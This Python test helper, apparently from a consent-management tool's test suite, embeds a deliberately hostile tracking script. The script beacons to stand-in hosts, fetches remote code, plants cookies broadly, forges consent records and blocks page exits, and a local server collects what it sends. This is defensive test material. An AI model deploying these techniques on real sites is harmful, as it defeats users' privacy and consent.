"""A hostile service of kind `script`: it sends and stores in every possible way, and tries not to end."""

import http.server
import ssl
import subprocess
import sys
import threading

SPY, COLLECTOR = "spy.example", "collect.example"

# Sends and stores by timers, in animation frames and at every event while a page is unloaded, and writes its cookies for every path and
# domain that it can. It asks the visitor to stay on the page, and hides clicks from other scripts. If FORGES is true it also restores the
# old record, in both ways in which a cookie can be set. The addresses that it requests contain source and time:
# `WAY/EVENT/PAGE/MILLISECONDS`.
SCRIPT = """(() => {
  const record = FORGES && document.cookie.split("; ").find(pair => /^(__Host-)?consent-/.test(pair));
  const parent = location.hostname.split(".").slice(-2).join(".");
  const folders = location.pathname.split("/").map((_, at, all) => all.slice(0, at + 1).join("/") || "/");
  const send = how => {
    for (const way of ["fetch", "beacon", "image"]) {
      const address = `https://collect.example/${way}/${how}/${location.pathname.replaceAll("/", "-")}/${Date.now()}`;
      try {
        if (way === "fetch") fetch(address, { method: "POST", mode: "no-cors", keepalive: true }).catch(() => {});
        if (way === "beacon") navigator.sendBeacon(address, "x");
        if (way === "image") new Image().src = address;
      } catch {}
    }
    const script = document.createElement("script");
    try { script.src = "https://spy.example/spy.js?again"; if (how === "pagehide") document.head.append(script); } catch {}
  };
  const store = () => {
    for (const path of folders) for (const domain of ["", "; Domain=" + parent, "; Domain=" + location.hostname])
      document.cookie = `_spy=1; Max-Age=99999; Path=${path}${domain}`;
    document.cookie = "_spy_part=1; Max-Age=99999; Path=/; Secure; Partitioned";
    document.cookie = "__Host-spy=1; Max-Age=99999; Path=/; Secure";
    localStorage.setItem("_spy_key", "1");
    sessionStorage.setItem("_spy_key", "1");
    indexedDB.open("_spy_base");
  };
  const forge = () => {
    localStorage.setItem("_spy_key", "1");
    if (record) document.cookie = record + "; Max-Age=99999; Path=/; SameSite=Lax" + (location.protocol === "https:" ? "; Secure" : "");
    if (record) window.cookieStore?.set({ name: record.split("=")[0], value: record.split("=")[1], expires: Date.now() + 9e6 });
  };
  const act = how => { store(); send(how); };
  act("start");
  setInterval(() => act("interval"), 100);
  const again = () => { forge(); requestAnimationFrame(again); };
  again();
  for (const target of [window, document])
    for (const name of ["beforeunload", "pagehide", "unload", "visibilitychange", "freeze"])
      for (const capture of [true, false])
        target.addEventListener(name, event => { act(name); if (name === "beforeunload") { event.preventDefault(); event.returnValue = "x"; } }, capture);
  for (const target of [window, document])
    target.addEventListener("click", event => event.stopImmediatePropagation(), true);
  window.spyRuns = true;
})()"""


def declare(declared):
    """Adds the service to the content of services.yml, with everything that it stores."""
    item = {"purpose": "Bespieden.", "lifetime": "2 years", "party": "first"}
    declared["services"]["spy"] = {
        "name": "Spy", "purpose": "statistics", "kind": "script", "src": f"https://{SPY}/spy.js",
        "provider": {"name": "Spy Ltd"}, "hosts": {"script": [SPY], "connect": [COLLECTOR], "img": [COLLECTOR]},
        "storage": {
            "_spy": item, "_spy_part": item, "__Host-spy": item, "_spy_k*": {**item, "kind": "local-storage"},
            "_spy_key": {**item, "kind": "session-storage"}, "_spy_base": {**item, "kind": "indexed-db"},
        },
    }  # fmt: skip


class Collector:
    """The server to which the service sends. It is a real one, since the routes of the test browser do not see what a page sends while
    it goes; and a process of its own, so that what the service sends does not hold up the test that answers the browser.
    """

    def __init__(self, folder):
        self._log = folder / "received.txt"
        self._log.touch()
        self._forgotten = 0
        certificate, key = folder / "certificate.pem", folder / "key.pem"
        command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", f"/CN={COLLECTOR}"]
        subprocess.run([*command, "-out", certificate, "-keyout", key], check=True, capture_output=True)
        command = [sys.executable, __file__, certificate, key, self._log]
        self._process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.port = int(self._process.stdout.readline())

    def received(self):
        """The paths that were asked for since the last call of `forget`."""
        return self._log.read_text("utf-8").splitlines()[self._forgotten :]

    def forget(self):
        self._forgotten += len(self.received())

    def close(self):
        self._process.communicate()


class Answering(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.server.log.write(self.path + "\n")
        self.server.log.flush()
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


class CollectingServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        """A browser may close the connection in the middle."""


def collect(certificate, key, log):
    """Collects until the other end of the standard input is closed, which it is when the test ends, however it ends."""
    server = CollectingServer(("127.0.0.1", 0), Answering)
    server.log = open(log, "a", encoding="utf-8")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    print(server.server_port, flush=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    collect(*sys.argv[1:])
